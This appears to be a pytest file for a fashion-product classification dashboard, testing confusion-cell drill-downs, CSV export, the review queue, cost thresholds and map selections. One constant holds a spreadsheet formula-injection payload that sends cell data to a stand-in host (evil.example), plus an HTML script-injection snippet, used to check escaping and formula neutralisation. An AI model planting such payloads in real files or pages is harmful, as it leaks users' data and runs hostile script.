"""From a figure to the products behind it, without a browser, on a copy of ``evaluated_ws``
(1,500 real fashion products, two evaluated tfidf runs): every selection against numpy on the
stored predictions, the product table's CSV (formulas neutralised), send-to-review, the cost
model, the threshold explorer's suggestions, the per-category table and the map selections."""

from __future__ import annotations

import io

import numpy as np
import pandas as pd
import pytest

import workbench.app.data as data
from tests._dashboard_setup import add_projection, copy_workspace
from workbench import Workspace
from workbench.app import AppContext, AppSettings, drill
from workbench.app.product_table import ProductTable
from workbench.app.state import CategoryState, MapState, ThresholdState
from workbench.app.state.embedding import inside_polygon
from workbench.catalog.relabel import load_taxonomy
from workbench.errors import WorkbenchError
from workbench.evaluate.confusion import OUTSIDE
from workbench.evaluate.cost import cheapest_threshold, cost_at, cost_curve
from workbench.loop.live_accuracy import live_accuracy_overall
from workbench.loop.queue_manual import send_to_queue
from workbench.loop.review_queue import claim_next, queue_counts, queue_items
from workbench.loop.thresholds import publish_thresholds, published_run, threshold_run_warning
from workbench.runs.evaluation_tables import stored_table
from workbench.runs.records import load_predictions

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click") <img src=x onerror=alert(1)>'


@pytest.fixture(scope="module")
def ws(evaluated_ws, tmp_path_factory) -> Workspace:
    copy = Workspace(copy_workspace(evaluated_ws, tmp_path_factory.mktemp("drill_ws"), artifacts=True))
    add_projection(copy)
    return copy


@pytest.fixture(scope="module")
def run(ws) -> str:
    return data.default_run_id(ws)


@pytest.fixture(scope="module")
def preds(ws, run):
    p = load_predictions(ws, run)
    pred = p.classes[p.proba.argmax(axis=1)]
    return pd.DataFrame({"product_id": p.product_ids, "true": p.y_true, "pred": pred,
                         "conf": p.proba.max(axis=1).astype(np.float32)})


def under(leaves, node):
    return np.array([leaf == node or leaf.startswith(node + " > ") for leaf in leaves])


def test_a_confusion_cell_holds_exactly_its_products(ws, run, preds):
    tax = load_taxonomy(ws)
    parent = max((n for n in tax.internal_nodes() if tax.level(n) == 1), key=lambda n: len(tax.children(n)))
    a, b = tax.children(parent)[:2]
    for true_child, pred_child in ((a, a), (a, b), (a, OUTSIDE)):
        sel = drill.confusion_cell(ws, run, "test", parent, true_child, pred_child)
        in_pred = ~under(preds["pred"], parent) if pred_child == OUTSIDE else under(preds["pred"], pred_child)
        expected = preds[under(preds["true"], true_child) & in_pred]
        frame = drill.selection_frame(ws, sel, None, photos=False)
        assert sel.size == len(expected) and set(frame["product_id"]) == set(expected["product_id"])
        assert frame["confidence"].is_monotonic_decreasing  # most confident first
    # the page's cell, from the heat map's labels
    from workbench.app.state import ConfusionState

    state = ConfusionState(workspace=ws)
    state.parent = parent
    assert state.cell(a.rsplit(" > ", 1)[-1], a.rsplit(" > ", 1)[-1]).size == \
        int((under(preds["true"], a) & under(preds["pred"], a)).sum())
    assert state.cell("no such label", "x") is None


def test_severity_curve_and_calibration_selections_match_the_stored_tables(ws, run, preds):
    tax = load_taxonomy(ws)
    distance = np.array([tax.distance(t, p) for t, p in zip(preds["true"], preds["pred"])])
    stored = stored_table(ws, "eval_severity", [run]).set_index("distance")["n"]
    for d, n in stored.items():
        assert drill.at_distance(ws, run, "test", int(d)).size == n == int((distance == d).sum())
    t = float(np.median(preds["conf"]))
    sel = drill.shelved_errors(ws, run, "test", t)
    wrong = (preds["conf"] >= np.float32(t)) & (preds["true"] != preds["pred"])
    assert sel.size == int(wrong.sum())
    frame = drill.selection_frame(ws, sel, None, photos=False)
    assert frame["confidence"].is_monotonic_increasing and (frame["true path"] != frame["predicted path"]).all()
    bins = stored_table(ws, "eval_calibration", [run])
    for row in bins[bins["count"] > 0].itertuples():
        assert drill.confidence_bin(ws, run, "test", row.lower, row.upper).size == row.count
    leaf = preds["true"].mode().iloc[0]
    assert drill.of_leaf(ws, run, "test", leaf).size == int(((preds["true"] == leaf) | (preds["pred"] == leaf)).sum())


def test_the_product_table_shows_photos_and_exports_a_safe_csv(ws, run, preds):
    ws.rows("UPDATE products SET title = ? WHERE product_id = ?", [HOSTILE, preds["product_id"].iloc[0]])
    photo = ws.df("SELECT product_id FROM products WHERE image IS NOT NULL LIMIT 3")["product_id"].tolist()
    ids = [preds["product_id"].iloc[0], *photo]
    table = ProductTable(AppContext(ws))
    shown = table.show(drill.of_products(ids, "a few", "test", run_id=run))
    assert list(shown["product_id"]) == ids
    assert all(p.startswith('<img class="wb-thumb" src="data:image/jpeg;base64,') for p in shown["photo"][1:])
    assert "&lt;img" in table.heading.object or "a few" in table.heading.object
    csv_text = table._csv().getvalue()
    back = pd.read_csv(io.StringIO(csv_text), dtype=str, keep_default_na=False)
    assert back["title"].iloc[0] == "'" + HOSTILE  # a spreadsheet shows the formula as text
    assert "photo" not in back.columns and len(back) == len(ids)
    assert not table.send.disabled and not table.download.disabled


def test_send_to_review_lands_in_the_queue_with_its_reason(ws, run, preds):
    table = ProductTable(AppContext(ws, AppSettings(roles={"ana": "reviewer", "vic": "viewer"}),
                                    user_override="vic"))
    sel = drill.shelved_errors(ws, run, "test", 0.0)
    table.show(sel)
    table.table.selection = [0, 1]
    assert table.send.disabled
    with pytest.raises(WorkbenchError, match="may not submit reviews"):
        table.send_selected()
    table = ProductTable(AppContext(ws, AppSettings(roles={"ana": "reviewer"}), user_override="ana"))
    shown = table.show(sel)
    with pytest.raises(WorkbenchError, match="tick the products"):
        table.send_selected()
    table.table.selection = [0, 1]
    assert table.send_selected() == 2
    items = queue_items(ws)
    sent = items[items["reason"].str.contains("dashboard")]
    assert set(sent["product_id"]) == set(shown["product_id"].iloc[:2])
    assert set(sent["predicted_leaf"]) <= set(preds["pred"]) and not sent["in_random"].any()
    assert all('"by": "ana"' in d for d in sent["detail"])
    assert queue_counts(ws)["dashboard"] == 2
    day = items["queue_date"].iloc[0]
    row = claim_next(ws, day, "me", reason="dashboard")
    assert row["product_id"] in set(sent["product_id"])
    assert claim_next(ws, day, "me", reason="random") is None
    assert live_accuracy_overall(ws)["n"] == 0  # never counted as the random sample
    # sending again adds nothing twice
    assert send_to_queue(ws, sent["product_id"], by="ana", run_id=run) == 2
    assert queue_counts(ws)["total"] == 2


def test_cheapest_threshold_is_the_brute_force_minimum(preds):
    conf, correct = preds["conf"].to_numpy(), (preds["true"] == preds["pred"]).to_numpy()
    curve = cost_curve(conf, correct)
    for wrong_cost, review_cost in ((5, 1), (1, 1), (0, 1), (100, 1)):
        best = cheapest_threshold(curve, wrong_cost, review_cost)
        candidates = np.r_[np.unique(conf), 1.5]
        costs = [wrong_cost * int(((conf >= np.float32(t)) & ~correct).sum())
                 + review_cost * int((conf < np.float32(t)).sum()) for t in candidates]
        assert best.cost == pytest.approx(min(costs))
        assert cost_at(curve, best.threshold, wrong_cost, review_cost).cost == pytest.approx(best.cost)
    with pytest.raises(WorkbenchError):
        cheapest_threshold(curve, -1, 1)


def test_threshold_explorer_keeps_hand_made_overrides_and_remembers_the_run(ws, run):
    tax = load_taxonomy(ws)
    state = ThresholdState(workspace=ws)
    assert state.run_id == run
    mine = tax.roots[0]
    state.add_override(mine, 0.99)
    n = state.suggest_overrides(0.95)
    assert state.overrides[mine] == 0.99 and len(state.overrides) == n + (mine not in state._suggested)
    state.suggest_overrides(0.95, replace=True)
    assert mine not in state.overrides or state.overrides[mine] != 0.99
    state.threshold = 0.5
    state.step(0.01)
    assert state.threshold == pytest.approx(0.51)
    state.step(-1)
    assert state.threshold == 0.0
    state.cost_wrong, state.cost_review = 10.0, 1.0
    best = state.costs["cheapest"]
    assert best.cost <= state.costs["current"].cost
    state.use_cheapest()
    assert state.costs["current"].cost == pytest.approx(best.cost)
    state.publish(by="ana")
    assert published_run(ws) == run and threshold_run_warning(ws, run) is None
    other = ThresholdState(workspace=ws, run_id=[r for r in state.param.run_id.objects if r != run][0])
    assert f"tuned on run {run}" in other.published_warning()
    publish_thresholds(ws, 0.9, by="ana")  # a set published without a run: no warning
    assert threshold_run_warning(ws, run) is None


def test_category_table_has_every_leaf_and_is_searchable(ws, run):
    state = CategoryState(workspace=ws)
    table = state.table()
    stored = stored_table(ws, "eval_per_leaf", [run])
    assert set(table["category"]) == set(stored["leaf"])
    assert table["F1"].dropna().is_monotonic_increasing  # the weakest first
    row = table.set_index("category").loc[stored.sort_values("support").iloc[-1]["leaf"]]
    assert row["support"] == stored["support"].max()
    state.search = "shoe"
    assert len(state.table()) and state.table()["category"].str.lower().str.contains("shoe").all()
    no_products = table[table["support"] == 0]
    assert no_products["recall"].isna().all()  # shown as n/a, never NaN or 0
    assert state.products(row.name).size >= row["support"]


def test_map_selections_and_the_product_under_the_mouse(ws):
    state = MapState(workspace=ws)
    proj = data.projection(ws, state.model)
    x0, x1 = np.quantile(proj["x"], [0.2, 0.6])
    y0, y1 = np.quantile(proj["y"], [0.2, 0.6])
    inside = (proj["x"].between(x0, x1) & proj["y"].between(y0, y1)).sum()
    assert state.selected(bounds=(x0, y0, x1, y1)).size == inside
    square = [(x0, y0), (x1, y0), (x1, y1), (x0, y1)]
    assert state.selected(geometry=square).size == inside
    tri = np.array([[0, 0], [4, 0], [0, 4]], dtype=float)
    pts = np.array([[1, 1], [3, 3], [0.5, 3.0], [-1, 1]])
    assert inside_polygon(pts[:, 0], pts[:, 1], tri[:, 0], tri[:, 1]).tolist() == [True, False, True, False]
    with_photo = ws.df("SELECT p.product_id FROM products p WHERE image IS NOT NULL LIMIT 1")["product_id"].iloc[0]
    row = proj.set_index("product_id").loc[with_photo]
    found = state.under_mouse(float(row["x"]), float(row["y"]))
    assert found["title"].iloc[0] == row["title"] and found["category"].iloc[0] == str(row["leaf"])
    assert found["thumb"].iloc[0].startswith("data:image/jpeg;base64,")
    far = state.under_mouse(float(proj["x"].max()) * 10 + 100, float(proj["y"].max()) * 10 + 100)
    assert far.empty
    state.highlight = [str(proj["level_1"].iloc[0])]
    assert state.base() is not None  # the highlighted map renders
